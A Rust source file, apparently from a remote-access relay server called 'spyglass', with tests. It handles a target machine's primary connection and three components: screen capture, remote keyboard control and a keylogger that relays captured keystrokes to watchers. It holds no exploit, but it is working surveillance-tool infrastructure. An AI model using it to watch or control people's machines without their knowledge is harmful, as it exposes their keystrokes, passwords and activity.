//! Target-side handlers: the primary connection and its three components.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use spyglass_core::{
    AccessCode, Action, Component, ControlEvent, FrameReader, FrameWriter, FramedChannel,
    KeyBatch, Reason, Reply, Role, Side,
};
use tokio::io::AsyncWrite;
use tokio::sync::mpsc;
use tokio::time::MissedTickBehavior;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use crate::acceptor::{read_access_code, reject};
use crate::config::SessionSettings;
use crate::error::HandlerError;
use crate::feeds::{FeedState, KeyFeed, ScreenFeed};
use crate::imaging::{FrameRebuilder, ImageMode};
use crate::registry::Rejected;
use crate::relay::Inbound;
use crate::session::{BoxedWrite, PrimaryWriter, TargetSession};
use crate::{metrics, PeerStream, ServerContext};

/// Registers a target and keeps its primary connection alive with
/// heartbeats until it leaves, then tears the session down.
pub async fn serve_primary<S: PeerStream>(
    mut channel: FramedChannel<S>,
    peer: SocketAddr,
    ctx: Arc<ServerContext>,
) -> Result<(), HandlerError> {
    let Some(code) = read_access_code(&mut channel).await? else {
        debug!(%peer, "target left before sending its code");
        return Ok(());
    };
    let Some(identity) = channel.recv().await? else {
        debug!(%peer, %code, "target left before sending its identity");
        return Ok(());
    };

    let (reader, writer) = channel.into_split();
    let (write_half, codec) = writer.into_parts();
    let writer: PrimaryWriter = FrameWriter::new(Box::new(write_half) as BoxedWrite, codec);

    let session = match ctx
        .registry
        .register_target(code.clone(), identity, writer, &ctx.shutdown)
    {
        Ok(session) => session,
        Err(Rejected { reason, mut writer }) => {
            info!(%peer, %code, reason = reason.as_str(), "refusing target registration");
            metrics::ADMISSIONS_REJECTED
                .with_label_values(&[Role::Target.as_str(), reason.as_str()])
                .inc();
            let sent = writer.send(&Reply::Rejected(reason).encode()).await;
            writer.shutdown().await;
            return sent.map_err(HandlerError::from);
        }
    };
    let guard = PrimaryGuard {
        ctx: ctx.clone(),
        session: session.clone(),
    };
    info!(
        %peer,
        %code,
        identity_bytes = session.identity().len(),
        "target registered"
    );

    let result = match session.send(&Reply::Ok.encode()).await {
        Ok(()) => hold(&session, reader, ctx.settings.heartbeat_interval).await,
        Err(err) => Err(err.into()),
    };

    teardown(&session, &ctx).await;
    drop(guard);
    info!(
        %peer,
        %code,
        connected_secs = session.connected_at().elapsed().as_secs(),
        "target session closed"
    );
    result
}

/// Heartbeats the target while a separate task drains its replies. Returns
/// when the target disconnects or says goodbye, or the session is stopped.
async fn hold<R>(
    session: &TargetSession,
    reader: FrameReader<R>,
    heartbeat_interval: Duration,
) -> Result<(), HandlerError>
where
    R: tokio::io::AsyncRead + Send + Unpin + 'static,
{
    let departed = CancellationToken::new();
    let drain = tokio::spawn(drain_primary(
        reader,
        session.code().clone(),
        departed.clone(),
    ));

    let mut heartbeat = tokio::time::interval(heartbeat_interval);
    heartbeat.set_missed_tick_behavior(MissedTickBehavior::Delay);

    let result = loop {
        tokio::select! {
            _ = session.primary_token().cancelled() => break Ok(()),
            _ = departed.cancelled() => break Ok(()),
            _ = heartbeat.tick() => {
                if let Err(err) = session.push_action(Action::Wait).await {
                    break Err(err.into());
                }
            }
        }
    };
    drain.abort();
    result
}

async fn drain_primary<R>(mut reader: FrameReader<R>, code: AccessCode, departed: CancellationToken)
where
    R: tokio::io::AsyncRead + Send + Unpin + 'static,
{
    let _departed = departed.drop_guard();
    loop {
        let payload = match reader.recv().await {
            Ok(Some(payload)) => payload,
            Ok(None) => {
                debug!(%code, "target primary disconnected");
                return;
            }
            Err(err) => {
                warn!(%code, error = %err, "target primary read failed");
                return;
            }
        };
        if Reply::is_ack(&payload) {
            continue;
        }
        match Action::from_frame(&payload) {
            Ok(Action::Disconnect) => {
                debug!(%code, "target announced disconnect");
                return;
            }
            Ok(action) => debug!(%code, ?action, "ignoring action from target"),
            Err(_) => debug!(%code, len = payload.len(), "ignoring unexpected frame from target"),
        }
    }
}

/// Marks the primary absent, waits for every component to detach, says
/// goodbye and drops the registration. Safe to run more than once.
async fn teardown(session: &TargetSession, ctx: &ServerContext) {
    session.mark_primary_gone();
    session.components_detached().await;
    if let Err(err) = session.push_action(Action::Disconnect).await {
        debug!(code = %session.code(), error = %err, "target already gone before DISCONNECT");
    }
    session.shutdown_writer().await;
    ctx.registry.remove_target(session);
}

/// Releases the registration even if the handler unwinds.
struct PrimaryGuard {
    ctx: Arc<ServerContext>,
    session: Arc<TargetSession>,
}

impl Drop for PrimaryGuard {
    fn drop(&mut self) {
        self.session.mark_primary_gone();
        self.ctx.registry.remove_target(&self.session);
    }
}

/// Binds one target component and feeds it until it stops.
pub async fn serve_component<S: PeerStream>(
    component: Component,
    mut channel: FramedChannel<S>,
    peer: SocketAddr,
    ctx: Arc<ServerContext>,
) -> Result<(), HandlerError> {
    let role = Role::component_of(Side::Target, component);
    let Some(code) = read_access_code(&mut channel).await? else {
        debug!(%peer, %component, "target component left before sending its code");
        return Ok(());
    };

    let Some(session) = ctx.registry.live_target(&code) else {
        info!(%peer, %code, %component, "target component has no primary");
        return reject(channel, role, Reason::MainNotConnected).await;
    };
    let bound = match session.bind_component(component) {
        Ok(bound) => bound,
        Err(reason) => {
            info!(%peer, %code, %component, reason = reason.as_str(), "refusing target component");
            return reject(channel, role, reason).await;
        }
    };
    channel.send(&Reply::Ok.encode()).await?;
    info!(%peer, %code, %component, "target component bound");

    let (reader, mut writer) = channel.into_split();
    let mut inbound = Inbound::spawn(reader);
    let stop = bound.feed.stop_token().clone();
    let result = match (bound.feed.state(), bound.inbox) {
        (FeedState::Screen(screen), _) => {
            pump_screen(&mut inbound, &mut writer, screen, &stop, &ctx.settings).await
        }
        (FeedState::Controller(_), Some(inbox)) => {
            pump_controller(&mut inbound, &mut writer, inbox, &stop).await
        }
        (FeedState::Keylogger(keys), _) => pump_keylogger(&mut inbound, keys, &stop).await,
        (FeedState::Controller(_), None) => Err(HandlerError::Protocol(
            "controller bound without an event queue".into(),
        )),
    };
    drop(inbound);

    // The slot stays bound until STOP is written, so any START a watcher
    // sends for a replacement reaches the target after it.
    if stop.is_cancelled() && session.primary_alive() {
        if let Err(err) = session.push_action(component.stop_action()).await {
            debug!(%code, %component, error = %err, "could not push stop action");
        }
    }
    drop(bound.guard);
    writer.shutdown().await;
    info!(%peer, %code, %component, "target component closed");
    result
}

/// Caches every screen frame and acknowledges each batch of N.
async fn pump_screen<W: AsyncWrite + Unpin>(
    inbound: &mut Inbound,
    writer: &mut FrameWriter<W>,
    screen: &ScreenFeed,
    stop: &CancellationToken,
    settings: &SessionSettings,
) -> Result<(), HandlerError> {
    let mut rebuilder = FrameRebuilder::new(settings.image_mode, settings.jpeg_quality);
    let mut received = 0u32;
    loop {
        let payload = tokio::select! {
            _ = stop.cancelled() => return Ok(()),
            frame = inbound.recv() => match frame? {
                Some(payload) if !payload.is_empty() => payload,
                _ => return Ok(()),
            },
        };

        let frame = rebuild(&mut rebuilder, payload).await?;
        screen.publish(frame);

        received += 1;
        if received >= settings.ack_interval {
            received = 0;
            writer.send(&Reply::Ok.encode()).await?;
        }
    }
}

async fn rebuild(rebuilder: &mut FrameRebuilder, payload: Bytes) -> Result<Bytes, HandlerError> {
    if rebuilder.mode() == ImageMode::Direct {
        return Ok(rebuilder.apply(payload)?);
    }
    // decode and re-encode run on the blocking pool
    let mut owned = std::mem::replace(rebuilder, FrameRebuilder::new(rebuilder.mode(), 1));
    let (owned, result) = tokio::task::spawn_blocking(move || {
        let result = owned.apply(payload);
        (owned, result)
    })
    .await
    .map_err(|err| HandlerError::Protocol(format!("frame rebuild task failed: {err}")))?;
    *rebuilder = owned;
    Ok(result?)
}

/// Forwards queued control events to the target controller. Whatever the
/// target sends back (usually an `OK` per event) is read and discarded.
async fn pump_controller<W: AsyncWrite + Unpin>(
    inbound: &mut Inbound,
    writer: &mut FrameWriter<W>,
    mut inbox: mpsc::UnboundedReceiver<ControlEvent>,
    stop: &CancellationToken,
) -> Result<(), HandlerError> {
    loop {
        let event = tokio::select! {
            _ = stop.cancelled() => return Ok(()),
            event = inbox.recv() => match event {
                Some(event) => event,
                None => return Ok(()),
            },
            frame = inbound.recv() => match frame? {
                Some(payload) => {
                    debug!(len = payload.len(), "ignoring frame from target controller");
                    continue;
                }
                None => return Ok(()),
            },
        };
        writer.send(&event.encode()).await?;
        metrics::FRAMES_RELAYED
            .with_label_values(&[Component::Controller.as_str()])
            .inc();
    }
}

/// Caches the latest key batch. A lone WAIT frame is the target's keepalive.
async fn pump_keylogger(
    inbound: &mut Inbound,
    keys: &KeyFeed,
    stop: &CancellationToken,
) -> Result<(), HandlerError> {
    loop {
        let payload = tokio::select! {
            _ = stop.cancelled() => return Ok(()),
            frame = inbound.recv() => match frame? {
                Some(payload) => payload,
                None => return Ok(()),
            },
        };
        if payload.as_ref() == [Action::Wait.as_byte()] {
            continue;
        }
        if KeyBatch::decode(&payload)?.is_empty() {
            continue;
        }
        keys.store(payload);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acceptor::handle_connection;
    use crate::session::Attach;
    use image::{DynamicImage, ImageOutputFormat, Rgb, RgbImage};
    use spyglass_core::{DeviceEvent, FrameCodec};
    use std::io::Cursor;
    use tokio::io::{duplex, AsyncWriteExt, DuplexStream};
    use tokio::time::timeout;

    fn context(settings: SessionSettings) -> Arc<ServerContext> {
        Arc::new(ServerContext::new(FrameCodec::default(), settings))
    }

    fn connect(ctx: &Arc<ServerContext>) -> FramedChannel<DuplexStream> {
        FramedChannel::new(connect_raw(ctx, 64 * 1024), FrameCodec::default())
    }

    fn connect_raw(ctx: &Arc<ServerContext>, capacity: usize) -> DuplexStream {
        let (client, server) = duplex(capacity);
        tokio::spawn(handle_connection(
            server,
            "127.0.0.1:5000".parse().unwrap(),
            ctx.clone(),
        ));
        client
    }

    fn encoded(payload: &[u8]) -> Vec<u8> {
        let mut frame = FrameCodec::default().encode_header(payload.len()).unwrap();
        frame.extend_from_slice(payload);
        frame
    }

    async fn register(ctx: &Arc<ServerContext>, code: &str) -> FramedChannel<DuplexStream> {
        register_over(connect(ctx), code).await
    }

    async fn register_over(
        mut primary: FramedChannel<DuplexStream>,
        code: &str,
    ) -> FramedChannel<DuplexStream> {
        primary.send(&[Role::Target.as_byte()]).await.unwrap();
        primary.send(code.as_bytes()).await.unwrap();
        primary.send(b"{}").await.unwrap();
        assert_eq!(primary.recv().await.unwrap().unwrap().as_ref(), b"OK");
        primary
    }

    async fn component(
        ctx: &Arc<ServerContext>,
        role: Role,
        code: &str,
    ) -> (FramedChannel<DuplexStream>, Reply) {
        let mut channel = connect(ctx);
        channel.send(&[role.as_byte()]).await.unwrap();
        channel.send(code.as_bytes()).await.unwrap();
        let reply = Reply::decode(&channel.recv().await.unwrap().unwrap()).unwrap();
        (channel, reply)
    }

    #[tokio::test]
    async fn primary_receives_heartbeats() {
        let ctx = context(SessionSettings {
            heartbeat_interval: Duration::from_millis(20),
            ..SessionSettings::default()
        });
        let mut primary = register(&ctx, "ABC123").await;
        for _ in 0..2 {
            let frame = timeout(Duration::from_secs(1), primary.recv())
                .await
                .unwrap()
                .unwrap()
                .unwrap();
            assert_eq!(Action::from_frame(&frame), Ok(Action::Wait));
            primary.send(b"OK").await.unwrap();
        }
    }

    #[tokio::test]
    async fn goodbye_tears_the_session_down() {
        let ctx = context(SessionSettings::default());
        let mut primary = register(&ctx, "ABC123").await;
        assert_eq!(ctx.registry.target_codes().len(), 1);

        primary.send(&[Action::Disconnect.as_byte()]).await.unwrap();
        loop {
            let frame = timeout(Duration::from_secs(2), primary.recv())
                .await
                .unwrap()
                .unwrap();
            match frame {
                Some(frame) if frame.as_ref() == [Action::Disconnect.as_byte()] => break,
                Some(_) => continue,
                None => break,
            }
        }
        timeout(Duration::from_secs(1), async {
            while ctx.registry.target_count() > 0 {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
        .await
        .expect("registration removed");
    }

    #[tokio::test]
    async fn second_screen_reader_is_refused() {
        let ctx = context(SessionSettings::default());
        let _primary = register(&ctx, "ABC123").await;
        let (_first, reply) = component(&ctx, Role::TargetScreenReader, "ABC123").await;
        assert_eq!(reply, Reply::Ok);
        let (mut second, reply) = component(&ctx, Role::TargetScreenReader, "ABC123").await;
        assert_eq!(reply, Reply::Rejected(Reason::AlreadyConnected));
        assert!(second.recv().await.unwrap().is_none());
    }

    #[tokio::test]
    async fn screen_frames_are_cached_and_acknowledged() {
        let ctx = context(SessionSettings {
            ack_interval: 2,
            ..SessionSettings::default()
        });
        let _primary = register(&ctx, "ABC123").await;
        let (mut screen, _) = component(&ctx, Role::TargetScreenReader, "ABC123").await;

        screen.send(b"frame-1").await.unwrap();
        screen.send(b"frame-2").await.unwrap();
        let ack = timeout(Duration::from_secs(1), screen.recv())
            .await
            .unwrap()
            .unwrap()
            .unwrap();
        assert!(Reply::is_ack(&ack));

        let session = ctx.registry.live_target(&AccessCode::from("ABC123")).unwrap();
        let crate::session::Attach::Attached(attachment) =
            session.attach_watcher(Component::ScreenReader)
        else {
            panic!("screen reader is bound");
        };
        let FeedState::Screen(feed) = attachment.feed().state() else {
            panic!("expected a screen feed");
        };
        assert_eq!(feed.snapshot(), (2, Bytes::from_static(b"frame-2")));
    }

    #[tokio::test]
    async fn keylogger_keeps_latest_batch_and_ignores_keepalives() {
        let ctx = context(SessionSettings::default());
        let _primary = register(&ctx, "ABC123").await;
        let (mut keys, _) = component(&ctx, Role::TargetKeylogger, "ABC123").await;

        let session = ctx.registry.live_target(&AccessCode::from("ABC123")).unwrap();
        let crate::session::Attach::Attached(attachment) =
            session.attach_watcher(Component::Keylogger)
        else {
            panic!("keylogger is bound");
        };
        let FeedState::Keylogger(feed) = attachment.feed().state() else {
            panic!("expected a key feed");
        };

        keys.send(&[Action::Wait.as_byte()]).await.unwrap();
        let batch = KeyBatch(vec![spyglass_core::KeyEvent {
            event: DeviceEvent::KeyDown,
            vk: 65,
        }])
        .encode()
        .unwrap();
        keys.send(&batch).await.unwrap();

        timeout(Duration::from_secs(1), async {
            while !feed.is_ready() {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
        .await
        .expect("batch cached");
        assert_eq!(feed.take(), Some(batch));
    }

    #[tokio::test]
    async fn controller_forwards_queued_events() {
        let ctx = context(SessionSettings::default());
        let _primary = register(&ctx, "ABC123").await;
        let (mut controller, _) = component(&ctx, Role::TargetController, "ABC123").await;

        let session = ctx.registry.live_target(&AccessCode::from("ABC123")).unwrap();
        let crate::session::Attach::Attached(attachment) =
            session.attach_watcher(Component::Controller)
        else {
            panic!("controller is bound");
        };
        let FeedState::Controller(queue) = attachment.feed().state() else {
            panic!("expected a control queue");
        };
        let event = ControlEvent::Keyboard {
            event: DeviceEvent::KeyUp,
            vk: 27,
        };
        assert!(queue.push(event));

        let frame = timeout(Duration::from_secs(1), controller.recv())
            .await
            .unwrap()
            .unwrap()
            .unwrap();
        assert_eq!(ControlEvent::decode(&frame).unwrap(), event);
    }

    #[tokio::test]
    async fn last_watcher_leaving_stops_the_component() {
        let ctx = context(SessionSettings::default());
        let mut primary = register(&ctx, "ABC123").await;
        let (mut keys, _) = component(&ctx, Role::TargetKeylogger, "ABC123").await;

        let session = ctx.registry.live_target(&AccessCode::from("ABC123")).unwrap();
        let crate::session::Attach::Attached(attachment) =
            session.attach_watcher(Component::Keylogger)
        else {
            panic!("keylogger is bound");
        };
        drop(attachment);

        let closed = timeout(Duration::from_secs(1), keys.recv())
            .await
            .unwrap()
            .unwrap();
        assert!(closed.is_none());

        let stop = timeout(Duration::from_secs(3), async {
            loop {
                let frame = primary.recv().await.unwrap().unwrap();
                if frame.as_ref() != [Action::Wait.as_byte()] {
                    return frame;
                }
            }
        })
        .await
        .unwrap();
        assert_eq!(Action::from_frame(&stop), Ok(Action::StopKeylogger));
    }

    #[tokio::test]
    async fn controller_ack_split_across_reads_keeps_the_stream_aligned() {
        let ctx = context(SessionSettings::default());
        let _primary = register(&ctx, "ABC123").await;

        let (read, mut write) = tokio::io::split(connect_raw(&ctx, 64 * 1024));
        let mut controller = FrameReader::new(read, FrameCodec::default());
        write.write_all(&encoded(&[Role::TargetController.as_byte()])).await.unwrap();
        write.write_all(&encoded(b"ABC123")).await.unwrap();
        let reply = controller.recv().await.unwrap().unwrap();
        assert_eq!(Reply::decode(&reply).unwrap(), Reply::Ok);

        let session = ctx.registry.live_target(&AccessCode::from("ABC123")).unwrap();
        let Attach::Attached(attachment) = session.attach_watcher(Component::Controller) else {
            panic!("controller is bound");
        };
        let FeedState::Controller(queue) = attachment.feed().state() else {
            panic!("expected a control queue");
        };

        let ack = encoded(b"OK");
        write.write_all(&ack[..30]).await.unwrap();
        tokio::time::sleep(Duration::from_millis(20)).await;

        let press = ControlEvent::Keyboard {
            event: DeviceEvent::KeyDown,
            vk: 65,
        };
        assert!(queue.push(press));
        let frame = timeout(Duration::from_secs(1), controller.recv())
            .await
            .unwrap()
            .unwrap()
            .expect("controller still open");
        assert_eq!(ControlEvent::decode(&frame).unwrap(), press);

        write.write_all(&ack[30..]).await.unwrap();
        write.write_all(&ack).await.unwrap();
        tokio::time::sleep(Duration::from_millis(20)).await;

        let release = ControlEvent::Keyboard {
            event: DeviceEvent::KeyUp,
            vk: 65,
        };
        assert!(queue.push(release), "controller kept its queue after a valid ack");
        let frame = timeout(Duration::from_secs(1), controller.recv())
            .await
            .unwrap()
            .unwrap()
            .expect("controller still open");
        assert_eq!(ControlEvent::decode(&frame).unwrap(), release);
    }

    #[tokio::test]
    async fn slot_stays_bound_until_stop_reaches_the_target() {
        let ctx = context(SessionSettings {
            heartbeat_interval: Duration::from_secs(3600),
            ..SessionSettings::default()
        });
        // room for a single action frame: the STOP write blocks until the
        // target reads the heartbeat queued ahead of it
        let primary = FramedChannel::new(connect_raw(&ctx, 70), FrameCodec::default());
        let mut primary = register_over(primary, "ABC123").await;
        let (mut keys, _) = component(&ctx, Role::TargetKeylogger, "ABC123").await;

        let session = ctx.registry.live_target(&AccessCode::from("ABC123")).unwrap();
        let Attach::Attached(attachment) = session.attach_watcher(Component::Keylogger) else {
            panic!("keylogger is bound");
        };
        drop(attachment);

        tokio::time::sleep(Duration::from_millis(50)).await;
        assert!(matches!(
            session.attach_watcher(Component::Keylogger),
            Attach::Stopping
        ));
        assert!(timeout(Duration::from_millis(20), keys.recv()).await.is_err());

        let stop = timeout(Duration::from_secs(1), async {
            loop {
                let frame = primary.recv().await.unwrap().unwrap();
                if frame.as_ref() != [Action::Wait.as_byte()] {
                    return frame;
                }
            }
        })
        .await
        .unwrap();
        assert_eq!(Action::from_frame(&stop), Ok(Action::StopKeylogger));

        let closed = timeout(Duration::from_secs(1), keys.recv())
            .await
            .unwrap()
            .unwrap();
        assert!(closed.is_none());
        timeout(Duration::from_secs(1), async {
            while !matches!(session.attach_watcher(Component::Keylogger), Attach::Absent) {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
        .await
        .expect("slot released after STOP");
    }

    fn png(img: &RgbImage) -> Vec<u8> {
        let mut buf = Vec::new();
        DynamicImage::ImageRgb8(img.clone())
            .write_to(&mut Cursor::new(&mut buf), ImageOutputFormat::Png)
            .unwrap();
        buf
    }

    #[tokio::test]
    async fn diff_mode_caches_rebuilt_jpeg_frames() {
        let ctx = context(SessionSettings {
            image_mode: ImageMode::Diff,
            ack_interval: 2,
            ..SessionSettings::default()
        });
        let _primary = register(&ctx, "ABC123").await;
        let (mut screen, _) = component(&ctx, Role::TargetScreenReader, "ABC123").await;

        screen
            .send(&png(&RgbImage::from_pixel(8, 8, Rgb([10, 200, 0]))))
            .await
            .unwrap();
        screen
            .send(&png(&RgbImage::from_pixel(8, 8, Rgb([20, 100, 255]))))
            .await
            .unwrap();
        let ack = timeout(Duration::from_secs(5), screen.recv())
            .await
            .unwrap()
            .unwrap()
            .unwrap();
        assert!(Reply::is_ack(&ack));

        let session = ctx.registry.live_target(&AccessCode::from("ABC123")).unwrap();
        let Attach::Attached(attachment) = session.attach_watcher(Component::ScreenReader) else {
            panic!("screen reader is bound");
        };
        let FeedState::Screen(feed) = attachment.feed().state() else {
            panic!("expected a screen feed");
        };
        let (freshness, jpeg) = feed.snapshot();
        assert_eq!(freshness, 2);
        assert_eq!(&jpeg[..2], &[0xff, 0xd8]);

        let rebuilt = image::load_from_memory(&jpeg).unwrap().to_rgb8();
        assert_eq!(rebuilt.dimensions(), (8, 8));
        let pixel = rebuilt.get_pixel(4, 4);
        for (got, want) in pixel.0.iter().zip([246u8, 100, 1]) {
            assert!(got.abs_diff(want) <= 10, "pixel {pixel:?} far from rebuilt frame");
        }
    }
}
